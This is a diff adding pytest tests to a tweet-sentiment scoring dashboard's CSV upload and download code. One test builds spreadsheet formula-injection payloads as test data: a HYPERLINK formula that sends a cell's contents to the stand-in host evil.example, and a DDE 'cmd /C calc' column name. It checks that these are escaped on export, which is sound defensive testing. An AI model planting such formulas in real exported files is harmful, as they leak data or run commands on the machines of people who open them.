@@ -51,3 +51,36 @@ def test_invalid_rows_are_kept_with_valid_false_and_no_prediction():
     round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), keep_default_na=False)
     assert round_trip["text"].tolist() == ["I hate delays", "", "   ", "great, thanks"]
     assert round_trip["valid"].tolist() == [True, False, False, True]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_download_cannot_run_a_spreadsheet_formula(start):
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    frame = pd.DataFrame({"text": [hostile, "fine tweet"], f"{start}cmd|' /C calc'!A0": ["x", "=1+1"]})
+    valid = valid_mask(frame["text"])
+    scored = join_predictions(frame, valid, [prediction(0.9), prediction(0.1)])
+    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), dtype=str, keep_default_na=False)
+    assert round_trip["text"].tolist() == ["'" + hostile, "fine tweet"]
+    assert round_trip.columns[1] == f"'{start}cmd|' /C calc'!A0"
+    assert round_trip.iloc[:, 1].tolist() == ["x", "'=1+1"]
+    assert float(round_trip["proba_negative"][0]) == 0.9  # numbers pass unchanged
+
+
+def test_an_oversized_upload_is_refused_with_its_size_and_the_limit(monkeypatch):
+    monkeypatch.setenv("MAX_UPLOAD_BYTES", "1048576")
+    with pytest.raises(BatchError, match=r"The file is 2\.0 MiB; the dashboard takes files up to 1\.0 MiB"):
+        read_csv(b"text\n" + b"late again\n" * (2 * 1024 * 1024 // 11 + 1))
+
+
+def test_an_upload_over_the_row_limit_is_refused_naming_the_limit(monkeypatch):
+    monkeypatch.setenv("MAX_UPLOAD_ROWS", "1000")
+    assert len(read_csv(b"text\n" + b"late again\n" * 1000)) == 1000
+    with pytest.raises(BatchError, match=r"The file has 1,001 rows; the dashboard scores up to 1,000 per file"):
+        read_csv(b"text\n" + b"late again\n" * 1001)
+
+
+def test_a_carriage_return_inside_a_tweet_keeps_its_row_whole():
+    frame = pd.DataFrame({"text": ["late\ragain", "lost\nbag", "ok"]})
+    scored = join_predictions(frame, valid_mask(frame["text"]), [prediction(0.9), prediction(0.8), prediction(0.1)])
+    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), dtype=str, keep_default_na=False)
+    assert round_trip["text"].tolist() == ["late\ragain", "lost\nbag", "ok"]
